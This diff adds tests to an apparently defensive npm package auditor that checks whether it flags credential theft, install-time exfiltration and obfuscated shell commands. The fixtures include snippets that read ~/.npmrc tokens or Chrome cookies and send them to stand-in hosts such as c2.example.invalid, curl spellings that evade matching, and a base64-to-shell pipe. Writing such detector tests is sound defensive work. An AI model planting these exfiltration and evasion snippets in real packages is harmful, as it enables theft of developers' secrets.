@@ -11,6 +11,7 @@ import { scanInstalledCode } from '../../src/audit/code/scan.js';
 import { diffSince, oldVersionsOf } from '../../src/audit/code/diff.js';
 import { listInstalled, scanPackageCode } from '../../src/audit/installed.js';
 import { readLockfile } from '../../src/audit/lockfile/read.js';
+import { suspiciousScript } from '../../src/audit/audit.js';
 import type { LockGraph } from '../../src/audit/lockfile/model.js';
 
 const work = mkdtempSync(join(tmpdir(), 'wirelock-code-'));
@@ -277,4 +278,96 @@ test('the parser is loaded lazily: not by import "wirelock", not by importing th
     execFile(process.execPath, ['--input-type=module', '-e', probe], { cwd: work }, (error, stdout, stderr) => (error ? reject(new Error(stderr)) : resolve(stdout))),
   );
   assert.deepEqual(JSON.parse(out), { afterCore: false, afterAudit: false, afterAnalysis: true, api: 'function' });
+});
+
+test('independent review: ~/.npmrc next to a registry read is a registry client; the same token sent elsewhere or written to the registry is theft', () => {
+  const judge = (files: Record<string, string>, scripts?: Record<string, string>) => {
+    const dir = mkdtempSync(join(work, 'registry-'));
+    writeFileSync(join(dir, 'package.json'), JSON.stringify({ name: 'tool', version: '1.0.0', ...(scripts ? { scripts } : {}) }));
+    for (const [file, text] of Object.entries(files)) writeFileSync(join(dir, file), text);
+    return judgePackage('tool', analyzePackageDir(dir), { verified: false, reason: '' }).findings.map((f) => `${f.severity} ${f.id}`);
+  };
+  const read = "const fs = require('fs'), os = require('os'), path = require('path');\nconst rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\n";
+  assert.deepEqual(judge({ 'index.js': `${read}fetch('https://registry.npmjs.org/' + name, { headers: { authorization: rc } });\n` }), []);
+  assert.deepEqual(judge({ 'index.js': `${read}fetch('https://collector.example.invalid/' + name, { headers: { authorization: rc } });\n` }), ['critical code/credential-theft']);
+  assert.deepEqual(judge({ 'index.js': `${read}fetch('https://registry.npmjs.org/' + name, { method: 'PUT', body: rc });\n` }), ['critical code/credential-theft']);
+  // The words process.env are not a .env file; ./cookies.json is not Chromium's Cookies store.
+  assert.deepEqual(judge({ 'index.js': "const fs = require('fs');\nconst ca = fs.readFileSync(process.env.MY_CA_FILE);\nrequire('https').get('https://api.example.com', { ca });\n" }), []);
+  assert.deepEqual(judge({ 'index.js': "const fs = require('fs');\nconst jar = fs.readFileSync('./cookies.json');\nrequire('https').get('https://api.example.com');\n" }), []);
+  assert.deepEqual(judge({ 'index.js': "const fs = require('fs'), os = require('os');\nconst c = fs.readFileSync(os.homedir() + '/.config/google-chrome/Default/Cookies');\nrequire('https').get('https://api.example.com');\n" }), ['critical code/credential-theft']);
+  // An update check against the registry at install is info; the same request to another host stays medium.
+  assert.deepEqual(judge({ 'check.js': "fetch('https://registry.npmjs.org/tool/latest').then((r) => r.json());\n" }, { postinstall: 'node check.js' }), ['info code/install-network']);
+  assert.deepEqual(judge({ 'check.js': "fetch('https://updates.example.invalid/tool/latest').then((r) => r.json());\n" }, { postinstall: 'node check.js' }), ['medium code/install-network']);
+});
+
+test('independent review: other spellings of require load their module', () => {
+  const net = (source: string) => caps(analyzeSource(source)).includes('network');
+  for (const load of ["require.call(null, 'https')", "require.apply(null, ['https'])", "Reflect.apply(require, null, ['https'])", "require.main.require('https')", "module.constructor._load('https')"]) {
+    assert.ok(net(`const h = ${load};\nh.get('https://c2.example.invalid/');\n`), load);
+  }
+});
+
+test('independent review: shell words are matched as the shell reads them (quotes, backslashes, $IFS); base64 -d | sh pipes to a shell', () => {
+  const signals = (command: string) => caps(analyzeSource(`require('child_process').execSync(${JSON.stringify(command)});`));
+  for (const command of ["c''url -s https://c2.example.invalid/", 'c"u"rl https://c2.example.invalid/', 'c\\url https://c2.example.invalid/', 'curl${IFS}https://c2.example.invalid/']) {
+    assert.ok(signals(command).includes('network/shell-network'), command);
+    assert.ok(suspiciousScript(command), command);
+  }
+  assert.ok(signals("echo $(who''ami)").includes('recon/host-recon'));
+  assert.ok(signals('echo ZWNobyBkZWZhbmdlZA== | base64 -d | sh').includes('shell/shell-pipe'));
+  // Controls: words that only contain a tool name stay quiet.
+  assert.ok(!signals('echo "curling is a sport"').includes('network/shell-network'));
+  assert.equal(suspiciousScript('node-gyp rebuild'), undefined);
+});
+
+test('independent review: a bundled dependency (inBundle) never verifies a known framework, whatever its path', () => {
+  const root = mkdtempSync(join(work, 'bundled-'));
+  const entry = (name: string) => ({ version: '1.0.0', resolved: `https://registry.npmjs.org/${name}/-/${name}-1.0.0.tgz`, integrity: `sha512-${Buffer.alloc(64, 1).toString('base64')}` });
+  writeFileSync(join(root, 'package-lock.json'), JSON.stringify({
+    name: 'app', version: '1.0.0', lockfileVersion: 3, requires: true,
+    packages: {
+      '': { name: 'app', version: '1.0.0', dependencies: { 'ui-kit': '1.0.0', next: '1.0.0' } },
+      'node_modules/next': entry('next'),
+      'node_modules/ui-kit': { ...entry('ui-kit'), bundleDependencies: ['next'] },
+      'node_modules/ui-kit/node_modules/next': { version: '1.0.0', inBundle: true },
+    },
+  }));
+  const graph = readLockfile(join(root, 'package-lock.json'));
+  assert.equal(verifyIdentity({ name: 'next', version: '1.0.0', dir: 'node_modules/next' }, graph).verified, true, 'control: the registry install');
+  const bundled = verifyIdentity({ name: 'next', version: '1.0.0', dir: 'node_modules/ui-kit/node_modules/next' }, graph);
+  assert.equal(bundled.verified, false);
+  assert.match(bundled.reason, /bundled/);
+});
+
+test('independent review: prepare scripts run at install for git, folder and tarball dependencies, not for registry ones', async () => {
+  const scan = async (resolved: string) => {
+    const root = mkdtempSync(join(work, 'prepare-'));
+    const pkgDir = join(root, 'node_modules', 'gitprep');
+    mkdirSync(pkgDir, { recursive: true });
+    writeFileSync(join(pkgDir, 'package.json'), JSON.stringify({ name: 'gitprep', version: '1.0.0', scripts: { prepare: 'node build.js' } }));
+    writeFileSync(join(pkgDir, 'build.js'), "const os = require('os');\nrequire('https').get('https://c2.example.invalid/?h=' + os.hostname());\n");
+    writeFileSync(join(root, 'package-lock.json'), JSON.stringify({
+      name: 'app', version: '1.0.0', lockfileVersion: 3, requires: true,
+      packages: { '': { name: 'app', version: '1.0.0', dependencies: { gitprep: '1.0.0' } }, 'node_modules/gitprep': { version: '1.0.0', resolved, ...(resolved.startsWith('https:') ? { integrity: `sha512-${Buffer.alloc(64, 2).toString('base64')}` } : {}) } },
+    }));
+    const graph = readLockfile(join(root, 'package-lock.json'));
+    const { code } = await scanInstalledCode(root, listInstalled(root), { graph, workers: 1 });
+    const result = code.get('node_modules/gitprep')!;
+    return judgePackage('gitprep', result, verifyIdentity({ name: 'gitprep', version: '1.0.0', dir: 'node_modules/gitprep' }, graph)).findings.map((f) => `${f.severity} ${f.id}`);
+  };
+  assert.deepEqual(await scan('git+ssh://git@github.com/someone/gitprep.git#0123456789abcdef0123456789abcdef01234567'), ['critical code/install-exfiltration']);
+  assert.deepEqual(await scan('https://registry.npmjs.org/gitprep/-/gitprep-1.0.0.tgz'), [], 'control: npm never runs prepare for a registry tarball');
+});
+
+test('independent review: a drop-in http/https from any module (follow-redirects) makes requests', () => {
+  assert.ok(caps(analyzeSource("const { https } = require('follow-redirects');\nhttps.request({ host: 'c2.example.invalid' }).end();\n")).includes('network'));
+  assert.ok(caps(analyzeSource("const lib = require('some-wrapper');\nlib.http.get('http://c2.example.invalid/');\n")).includes('network'));
+  assert.ok(!caps(analyzeSource("const lib = require('some-wrapper');\nlib.http.status(200);\n")).includes('network'));
+});
+
+test('independent review: spawn(process.execPath, ["-e", code]) analyses code as code', () => {
+  const source = "const code = \"require('https').get('https://c2.example.invalid/?h=' + require('os').hostname())\";\nrequire('child_process').spawn(process.execPath, ['-e', code]);\n";
+  const found = caps(analyzeSource(source));
+  assert.ok(found.includes('network') && found.includes('recon/host-recon'), found.join(' '));
+  assert.ok(!caps(analyzeSource("require('child_process').spawn(process.execPath, ['-e', 'console.log(1)']);\n")).includes('network'));
 });
